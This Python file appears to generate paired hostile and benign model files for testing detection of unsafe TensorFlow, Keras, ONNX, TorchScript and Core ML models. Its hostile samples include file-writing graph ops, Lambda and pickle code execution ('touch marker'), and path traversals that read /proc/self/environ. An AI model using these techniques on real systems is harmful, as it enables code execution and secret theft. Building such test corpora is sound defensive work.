"""Operators and layers that act: TensorFlow, Keras, ONNX, TorchScript, Core ML."""
from __future__ import annotations

import base64
import io
import json
import pathlib
import tempfile

import numpy as np

from fourteenth.common import Part, rezip

part = Part()
add = part.add
pair = part.pair


def folder(path):
    return {str(p.relative_to(path)): p.read_bytes() for p in sorted(pathlib.Path(path).rglob("*")) if p.is_file()}


def saved_model(function):
    """The SavedModel of a module whose serving function is `function`; saved_model.pb comes first."""
    import tensorflow as tf

    class Serve(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def serve(self, x):
            return {"scores": function(x)}

    with tempfile.TemporaryDirectory() as d:
        module = Serve()
        tf.saved_model.save(module, d, signatures={"serving_default": module.serve})
        files = folder(d)
    files.pop("fingerprint.pb", None)
    return {"saved_model.pb": files.pop("saved_model.pb"), **files}


@pair("graph", "xiv_saved")
def print_to_file():
    """tf.saved_model.load and a call: PrintV2 with an output_stream of file:// appends to that file."""
    import tensorflow as tf

    def f(stream):
        def call(x):
            tf.raw_ops.PrintV2(input=tf.strings.as_string(tf.reduce_sum(x)), output_stream=stream, end="\n")
            return tf.nn.softmax(x)

        return call

    return saved_model(f("file://marker")), saved_model(f("log(info)"))


@pair("graph", "xiv_saved")
def graph_in_string():
    """tf.saved_model.load and a call: DatasetFromGraph runs the GraphDef that a string constant keeps (here WriteFile)."""
    import tensorflow as tf

    def graph(act):
        data = tf.data.Dataset.from_tensor_slices([1.0, 2.0]).map(act)
        return tf.raw_ops.DatasetToGraphV2(input_dataset=data._variant_tensor, external_state_policy=1, strip_device_assignment=True).numpy()

    def write(x):
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename="marker", contents="x")]):
            return tf.identity(x)

    def f(blob):
        def call(x):
            handle = tf.raw_ops.DatasetFromGraph(graph_def=tf.strings.join([blob, tf.strings.substr(tf.strings.as_string(tf.size(x)), 0, 0)]))
            total = tf.raw_ops.ReduceDataset(input_dataset=handle, initial_state=[tf.constant(0.0)], other_arguments=[], f=add_up.get_concrete_function(), output_types=[tf.float32], output_shapes=[[]])
            return tf.nn.softmax(x) + 0.0 * total[0]

        return call

    @tf.function(input_signature=[tf.TensorSpec([], tf.float32), tf.TensorSpec([], tf.float32)])
    def add_up(a, b):
        return a + b

    return saved_model(f(graph(write))), saved_model(f(graph(lambda x: x * 0.5)))


@pair("graph", "xiv_saved")
def save_in_cond():
    """tf.saved_model.load and a call: SaveV2 in the branch of a condition writes a file at a path of its own."""
    import tensorflow as tf

    def hostile(x):
        def yes():
            with tf.control_dependencies([tf.raw_ops.SaveV2(prefix="marker", tensor_names=["a"], shape_and_slices=[""], tensors=[x])]):
                return tf.identity(x)

        return tf.nn.softmax(tf.cond(tf.reduce_all(x > -1e9), yes, lambda: x * 1.0))

    def twin(x):
        return tf.nn.softmax(tf.cond(tf.reduce_all(x > -1e9), lambda: tf.clip_by_norm(x, 4.0), lambda: x * 1.0))

    return saved_model(hostile), saved_model(twin)


@pair("graph", "xiv_saved")
def summary_writer():
    """tf.saved_model.load and a call: CreateSummaryFileWriter and WriteRawProtoSummary write bytes where they like."""
    import tensorflow as tf

    def hostile(x):
        w = tf.raw_ops.SummaryWriter(shared_name="events", container="")
        with tf.control_dependencies([tf.raw_ops.CreateSummaryFileWriter(writer=w, logdir="marker_dir", max_queue=1, flush_millis=1, filename_suffix=".pth")]):
            with tf.control_dependencies([tf.raw_ops.WriteScalarSummary(writer=w, step=tf.constant(1, tf.int64), tag="import os", value=1.0)]):
                return tf.nn.softmax(x)

    def twin(x):
        with tf.control_dependencies([tf.debugging.assert_all_finite(x, "scores")]):
            return tf.nn.softmax(x)

    return saved_model(hostile), saved_model(twin)


@pair("graph", "xiv_pbtxt", "frozen.pbtxt")
def text_graph_merge():
    """tf.import_graph_def of a text graph: WriteFile is a control input of the output node."""
    import tensorflow as tf

    def data(act):
        g = tf.Graph()
        with g.as_default():
            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
            with tf.control_dependencies([act(x)]):
                tf.nn.softmax(x, name="scores")
        return str(g.as_graph_def())

    h = data(lambda x: tf.raw_ops.WriteFile(filename=tf.strings.join(["mar", "ker"]), contents="x"))
    return h, data(lambda x: tf.debugging.assert_rank(tf.strings.as_string(x), 2) or tf.no_op())


def keras_file(model, name="m.keras"):
    with tempfile.TemporaryDirectory() as d:
        model.save(d + "/" + name)
        return pathlib.Path(d, name).read_bytes()


@pair("graph", "xiv_keras", "sequence.keras")
def keras_nested_lambda():
    """keras.models.load_model(safe_mode=False): a Lambda wrapped by TimeDistributed in a model used as a layer (runs at the first prediction)."""
    import keras

    def data(layer):
        inner = keras.Sequential([keras.Input((5, 4)), keras.layers.TimeDistributed(layer), keras.layers.Dense(3)], name="encoder")
        outer = keras.Sequential([keras.Input((5, 4)), inner, keras.layers.GlobalAveragePooling1D()])
        return keras_file(outer)

    h = keras.layers.Lambda(lambda x: (open("marker", "w").close(), x * 2.0)[1], output_shape=(4,))
    return data(h), data(keras.layers.Rescaling(2.0))


@pair("graph", "xiv_keras", "legacy.h5")
def keras_legacy_lambda():
    """keras.models.load_model(safe_mode=False) of a legacy .h5: the Lambda is in model_config, an attribute (runs at the first prediction)."""
    import keras

    def data(layer):
        return keras_file(keras.Sequential([keras.Input((4,)), keras.layers.Dense(4), layer]), "m.h5")

    h = keras.layers.Lambda(lambda x: (open("marker", "w").close(), x + 1.0)[1], output_shape=(4,))
    return data(h), data(keras.layers.ReLU(max_value=6.0))


@pair("graph", "xiv_torchkeras", "wrapped.keras")
def keras_torch_module():
    """keras.models.load_model(safe_mode=False) with the torch backend: TorchModuleWrapper unpickles base64 of its config."""
    import keras
    import torch

    from assembly import call, glob
    from fourteenth.common import member, plant

    def blob(value):
        out = io.BytesIO()
        torch.save(value, out, pickle_protocol=3)
        return out.getvalue()

    def data(module):
        base = keras_file(keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)]))
        wrapper = {
            "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
            "config": {"name": "torch_module_wrapper", "trainable": True, "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
                       "module": base64.b64encode(module).decode(), "output_shape": [None, 3]},
            "build_config": {"input_shape": [None, 4]},
        }
        conf = json.loads(member(base, "config.json"))
        conf["config"]["layers"][1] = wrapper
        return rezip(base, {"config.json": json.dumps(conf)})

    layer = torch.nn.Linear(4, 3)
    honest = blob(layer)
    layer.note = "@@X@@"
    bad = blob(layer)
    bad = rezip(bad, {"data.pkl": plant(member(bad, "data.pkl"), call(glob("torch.utils.collect_env", "run"), "touch marker")).replace(b"\x80\x03", b"\x80\x04", 1)})
    return data(bad), data(honest)


@pair("graph", None, "ranker.keras")
def keras_external_weights():
    """keras.models.load_model before 3.12.1 (CVE-2026-1669): a dataset of model.weights.h5 lies in another file."""
    import h5py
    import keras

    from fourteenth.common import member

    base = keras_file(keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, name="head")]))

    def data(external):
        with tempfile.TemporaryDirectory() as d:
            name = pathlib.Path(d, "w.h5")
            name.write_bytes(member(base, "model.weights.h5"))
            with h5py.File(name, "a") as f:
                key = []
                f.visititems(lambda k, v: key.append(k) if isinstance(v, h5py.Dataset) and v.shape == (4, 2) else None)
                del f[key[0]]
                if external:
                    f.create_dataset(key[0], (4, 2), "f4", external=[("/proc/self/environ", 0, 32)])
                else:
                    f.create_dataset(key[0], (4, 2), "f4", data=np.full((4, 2), 0.25, "f4"), chunks=(4, 2), compression="gzip")
            return rezip(base, {"model.weights.h5": name.read_bytes()})

    return data(True), data(False)


@pair("graph", None)
def onnx_branch_external():
    """onnx.load before 1.16 (CVE-2024-27318): the external tensor of a Constant in an If branch leaves the folder."""
    import onnx
    from onnx import helper as h

    def data(location):
        t = onnx.TensorProto(name="table", data_type=1, dims=[4], data_location=onnx.TensorProto.EXTERNAL)
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            t.external_data.add(key=k, value=v)
        f = onnx.TensorProto.FLOAT
        yes = h.make_graph([h.make_node("Constant", [], ["a"], value=t)], "then", [], [h.make_tensor_value_info("a", f, [4])])
        no = h.make_graph([h.make_node("Constant", [], ["b"], value_floats=[0.0, 0.0, 0.0, 0.0])], "else", [], [h.make_tensor_value_info("b", f, [4])])
        g = h.make_graph([h.make_node("If", ["flag"], ["bias"], then_branch=yes, else_branch=no), h.make_node("Add", ["x", "bias"], ["y"])], "g",
                         [h.make_tensor_value_info("x", f, ["n", 4]), h.make_tensor_value_info("flag", onnx.TensorProto.BOOL, [])], [h.make_tensor_value_info("y", f, ["n", 4])])
        return h.make_model(g, opset_imports=[h.make_opsetid("", 17)], producer_name="pytorch").SerializeToString()

    blob = np.array([0.1, 0.2, 0.3, 0.4], "<f4").tobytes()
    return ({"model.onnx": data("weights/../../../../../../proc/self/environ"), "weights/table.bin": blob},
            {"model.onnx": data("weights/table.bin"), "weights/table.bin": blob})


@pair("graph", None)
def onnx_context_outside():
    """onnxruntime with an accelerator: EPContext loads a compiled engine (native code) from a path, here one outside."""
    import onnx
    from onnx import helper as h

    def data(path):
        f = onnx.TensorProto.FLOAT
        n = h.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, ep_cache_context=path, main_context=1, source="TensorrtExecutionProvider", ep_sdk_version="10.3", hardware_architecture="80+", partition_name="p0")
        g = h.make_graph([n], "g", [h.make_tensor_value_info("x", f, ["n", 4])], [h.make_tensor_value_info("y", f, ["n", 4])])
        return h.make_model(g, opset_imports=[h.make_opsetid("", 17), h.make_opsetid("com.microsoft", 1)]).SerializeToString()

    plan = b"ftrt" + bytes(range(60))
    return ({"model_ctx.onnx": data("../../../../../dev/shm/.cache/p0.engine"), "p0.engine": plan}, {"model_ctx.onnx": data("p0.engine"), "p0.engine": plan})


@pair("graph", "xiv_jit", "quantised.pt")
def torchscript_setstate():
    """torch.jit.load: __setstate__ of a scripted module runs at load; from_file(shared) makes or maps any file."""
    import torch
    from typing import Tuple

    class Hostile(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.ones(4)

        @torch.jit.export
        def __getstate__(self) -> Tuple[torch.Tensor, bool]:
            return self.w, self.training

        @torch.jit.export
        def __setstate__(self, state: Tuple[torch.Tensor, bool]):
            self.w = state[0] + torch.from_file("marker", True, 4)
            self.training = state[1]

        def forward(self, x):
            return x * self.w

    class Twin(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.ones(4)

        @torch.jit.export
        def __getstate__(self) -> Tuple[torch.Tensor, bool]:
            return self.w, self.training

        @torch.jit.export
        def __setstate__(self, state: Tuple[torch.Tensor, bool]):
            self.w = state[0] + torch.zeros(4)
            self.training = state[1]

        def forward(self, x):
            return x * self.w

    def data(cls):
        out = io.BytesIO()
        torch.jit.save(torch.jit.script(cls()), out)
        return out.getvalue()

    return data(Hostile), data(Twin)


@pair("graph", None)
def mlpackage_outside():
    """coremltools and Core ML resolve itemInfoEntries of Manifest.json under Data/: a path that climbs out is read instead."""
    from coremltools.models import datatypes
    from coremltools.models.neural_network import NeuralNetworkBuilder

    b = NeuralNetworkBuilder([("x", datatypes.Array(4))], [("y", datatypes.Array(2))])
    b.add_inner_product("fc", np.ones((2, 4)), np.zeros(2), 4, 2, True, "x", "y")
    spec = b.spec.SerializeToString()

    def manifest(path):
        return json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {
            "A1": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path},
            "B2": {"author": "com.apple.CoreML", "description": "CoreML Model Weights", "name": "weights", "path": "com.apple.CoreML/weights"}},
            "rootModelIdentifier": "A1"}, indent=2)

    base = "Head.mlpackage/"
    rest = {base + "Data/com.apple.CoreML/model.mlmodel": spec, base + "Data/com.apple.CoreML/weights/weight.bin": bytes(64)}
    return ({base + "Manifest.json": manifest("com.apple.CoreML/../../../../../../private/tmp/model.mlmodel"), **rest},
            {base + "Manifest.json": manifest("com.apple.CoreML/model.mlmodel"), **rest})
